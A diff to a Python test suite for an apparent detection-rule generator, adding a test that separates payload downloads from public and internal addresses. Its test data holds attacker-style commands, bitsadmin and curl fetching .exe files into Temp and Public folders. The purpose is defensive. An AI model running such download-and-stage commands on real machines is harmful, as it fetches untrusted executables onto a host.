@@ -24,7 +24,9 @@ def test_the_articles_rule() -> None:
 
 def test_no_rule_is_met_by_lawful_use() -> None:
     """Lawful use that looks exactly like it: then there is no rule, and the numbers say why."""
-    same = [start(host, ATTACK.replace("Svn", f"Setup{host}").replace("http://198", "http://10")) for host in range(40)]
+    same = [
+        start(host, ATTACK.replace("Svn", f"Setup{host}").replace("http://198", "http://203")) for host in range(40)
+    ]
     found, reasons, _ = made([deed(ATTACK)], [*quiet(), *same])
     assert not found
     assert "lawful use does the same: 40 of " in reasons[0]
@@ -48,6 +50,21 @@ def test_a_rule_demands_what_else_its_deeds_share() -> None:
     (found,), _, _ = made([deed(ATTACK)], [*quiet(), *lawful_use])
     assert {"remote", "names_program", "writable"} <= set(names(found))
     assert fires(found, "bitsadmin -transfer u https://cdn.example.net/x1.exe C:\\Windows\\Temp\\x1.exe")
+
+
+def test_a_public_address_is_not_told_like_one_of_the_network() -> None:
+    """Where an attacker fetched from the internet, fetching from a server of one's own network is another thing."""
+    line, image = "curl.exe -s -o c:\\Users\\Public\\a.exe http://{}/a.exe", S32 + "curl.exe"
+    lawful_use = [start(host, f"curl.exe -s -o d:\\a{host}.zip https://wsus/a", image, tenant=f"t{host}")
+                  for host in range(30)]  # fmt: skip
+    found, _, _ = made([deed(line.format("203.0.113.9"), image)], [*quiet(), *lawful_use])
+    here, _, _ = made([deed(line.format("10.3.1.9"), image)], [*quiet(), *lawful_use])
+    assert found and here
+    elsewhere = line.format("172.32.0.9"), line.format("172.31.0.9")
+    assert [[fires(rule, each, image) for each in elsewhere] for rule in (*found, *here)] == [
+        [True, False],
+        [True, True],
+    ]
 
 
 def test_nothing_telling_is_refused_however_rare() -> None:
